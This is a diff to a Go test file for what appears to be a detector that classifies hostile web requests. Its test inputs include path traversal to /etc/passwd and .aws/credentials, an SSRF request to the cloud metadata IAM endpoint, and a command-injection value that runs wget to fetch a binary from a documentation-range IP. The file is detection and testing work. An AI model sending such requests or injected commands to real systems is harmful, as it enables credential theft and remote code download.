@@ -56,6 +56,23 @@ func TestSweep(t *testing.T) {
 	}
 }
 
+// A request that several rules recognise is one piece of evidence.
+func TestOneRequestIsOneKind(t *testing.T) {
+	for _, target := range []string{"/../../../../etc/passwd", "/?u=http://169.254.169.254/latest/meta-data/iam/", "/.env?x=../../../../.aws/credentials"} {
+		got := conclude(fresh(t)(), request(target, ""))
+		classes := map[model.Class]bool{}
+		for kind, s := range got {
+			classes[s.Class] = true
+			if kind == "scan.web-sweep" {
+				t.Errorf("%s: one request is no sweep", target)
+			}
+		}
+		if len(got) < 2 || len(classes) != 1 {
+			t.Errorf("%s: %v", target, got)
+		}
+	}
+}
+
 func TestPayloadURL(t *testing.T) {
 	got := conclude(fresh(t)(), request("/x", "a=;wget http://192.0.2.7/mips -O /tmp/m"))
 	s := got["file.download-url"]
